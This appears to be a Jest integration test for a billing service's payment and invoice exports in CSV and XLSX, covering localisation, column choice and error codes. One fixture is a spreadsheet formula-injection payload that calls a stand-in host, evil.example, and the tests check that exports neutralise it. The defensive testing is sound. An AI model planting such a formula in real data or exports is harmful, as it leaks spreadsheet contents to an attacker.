import { organisationActivated } from '@ciep/contracts';
import { startService, type TestService } from '@ciep/testing';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { streamXlsxRows } from 'hucre/xlsx';
import { billing } from '../src/billing.module.js';
import { seedBilling } from '../src/database/seed.js';
import { anApproval, deskOf, type Desk } from './billing.factory.js';

const formula = '=HYPERLINK("https://evil.example?"&A1,"点")';
const legalName = { zh: '沈阳北方精密仪器股份有限公司', en: 'Shenyang Northern Precision' };
const creditCode = '91210100MA0EXAMP5X';
let service: TestService;
let desk: Desk;
let invoice: any;
beforeAll(async () => {
  service = await startService(billing, { now: '2023-03-24T09:00:00+08:00' });
  await seedBilling(service.find);
  desk = deskOf(service);
  const approval = anApproval({ applicationNumber: '21-000123' });
  invoice = await desk.opened(approval);
  await service.receive(
    organisationActivated,
    { organisationId: approval.organisationId, origin: 'mainland', kind: 'enterprise', regionCode: '210000', name: legalName, creditCode },
    { aggregateVersion: 2 },
  );
  await desk.pay({ reference: invoice.reference, receivedOn: '2023-03-20', payer: formula, statementNumber: '0012' });
  for (let more = 0; more < 250; more += 1) await desk.pay({ receivedOn: '2023-03-21', amount: { amount: 5, currency: 'CNY' } });
});

const csv = async (path: string, query: Record<string, string> = {}): Promise<string[][]> =>
  parse((await desk.clerk.get(path, { query })).text, { bom: true });
const xlsx = async (path: string): Promise<unknown[][]> => {
  const response = await fetch(service.url + path, {
    headers: { authorization: `Bearer ${await service.token({ roles: ['finance_clerk'] })}` },
  });
  expect(response.headers.get('content-disposition')).toMatch(/\.xlsx$/);
  const rows: unknown[][] = [];
  for await (const row of streamXlsxRows(new Uint8Array(await response.arrayBuffer()))) rows.push(row.values);
  return rows;
};

describe('an export of payments', () => {
  it('has every payment, for programs by names and codes, with times in China', async () => {
    const [head = [], ...rows] = await csv('/v1/billing/payments/export.csv', { sort: 'receivedOn' });
    expect(head.slice(0, 4)).toEqual(['statementNumber', 'account', 'receivedOn', 'amount']);
    expect(rows).toHaveLength(251);
    const first = Object.fromEntries(head.map((name, at) => [name, rows[0]?.[at]]));
    expect(first).toMatchObject({
      statementNumber: '0012',
      amount: '12720.00',
      recordedAt: '2023-03-24T09:00:00+08:00',
      invoice: invoice.number,
    });
    expect(first['payer']).toBe(`'${formula}`);
  });

  it('is for people in their language, with the columns that they want', async () => {
    const of = (lang: string) => csv('/v1/billing/payments/export.csv', { lang, columns: 'amount,referenceHint', assigned: 'false' });
    expect((await of('zh')).slice(0, 2)).toEqual([
      ['金额（元）', '未对应原因'],
      ['0.05', '无参考号 (missing)'],
    ]);
    expect((await of('en')).slice(0, 2)).toEqual([
      ['Amount (yuan)', 'Why unassigned'],
      ['0.05', 'No reference (missing)'],
    ]);
    const { body } = await desk.clerk.get('/v1/billing/payments/export.csv', { query: { columns: 'amount,secret' } });
    expect(body).toMatchObject({ status: 400, code: 'columns.unknown' });
  });

  it.each([
    ['csv', { sort: 'no-such-field' }, 'sort.unknown'],
    ['csv', { cursor: 'a.b' }, 'cursor.invalid'],
    ['xlsx', { cursor: 'a.b' }, 'cursor.invalid'],
  ])('is refused before its first byte: %s, %j', async (format, query, code) => {
    expect((await desk.clerk.get(`/v1/billing/payments/export.${format}`, { query })).body).toMatchObject({ status: 400, code });
  });

  it('may be a workbook, in which a text is never a formula', async () => {
    const [head, ...rows] = await xlsx('/v1/billing/payments/export.xlsx?sort=receivedOn&lang=zh&columns=payer,statementNumber');
    expect(head).toEqual(['付款人', '流水号']);
    expect(rows).toHaveLength(251);
    expect(rows[0]).toEqual([formula, '0012']);
  });
});

describe('an export of invoices', () => {
  it('names who pays, as the invoice does', async () => {
    const [head = [], row = []] = await csv('/v1/billing/invoices/export.csv');
    expect(Object.fromEntries(head.map((name, at) => [name, row[at]]))).toMatchObject({
      organisationZh: legalName.zh,
      organisationEn: legalName.en,
      creditCode,
      registerNumber: '',
      applicationNumber: '21-000123',
    });
    const { body } = await desk.clerk.get(`/v1/billing/invoices/${invoice.id}`, { query: { lang: 'en' } });
    expect(body).toMatchObject({ organisationName: legalName.en, creditCode, registerNumber: null, applicationNumber: '21-000123' });
  });

  it('has for people more than for programs', async () => {
    const [plain] = await csv('/v1/billing/invoices/export.csv');
    expect(plain).not.toContain('paidOn');
    const [head = [], row = []] = await csv('/v1/billing/invoices/export.csv', { lang: 'en' });
    const cells = Object.fromEntries(head.map((title, at) => [title, row[at]]));
    expect(cells).toMatchObject({
      Status: 'Paid (paid)',
      Region: 'Liaoning (210000)',
      'Paid on': '2023-03-20',
      'Paid in time': 'yes',
      Gross: '12720.00',
    });
    expect((await xlsx('/v1/billing/invoices/export.xlsx?columns=number,status'))[1]).toEqual([invoice.number, 'paid']);
  });
});
